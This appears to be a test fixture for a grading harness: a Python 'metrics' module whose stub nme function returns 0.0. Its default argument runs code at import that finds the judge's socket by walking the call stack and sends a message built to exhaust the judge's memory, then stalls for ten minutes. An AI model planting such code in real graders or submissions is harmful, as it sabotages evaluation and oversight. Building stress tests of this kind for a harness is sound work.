"""A note whose text would need more than the judge's 6 GiB, before any part has begun: a blank instead of a zero?

part: metrics
"""

import json, os, struct, sys, time
import numpy as np
import safetensors.numpy

def _sock():
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("sock")
        if found is not None and hasattr(found, "sendall"):
            return found
        frame = frame.f_back

def _send(head, **arrays):
    head = head.encode()
    body = safetensors.numpy.save(arrays)
    data = struct.pack(">QQ", len(head), len(body)) + head + body
    sock = _sock()
    sock.settimeout(None)
    sock.sendall(struct.pack(">Q", len(data)) + data)

def _go():
    ref = '{"array":"0","shape":[1000]}'
    _send('{"dict":{"read":true,"notes":[["\\ud83d\\ude00",' + ",".join([ref] * 130_000) + ']]}}',
          **{"0": np.full(1000, 2**64 - 1, np.uint64)})
    time.sleep(600)
    return 1

def nme(pred, true, _=_go()):
    return 0.0
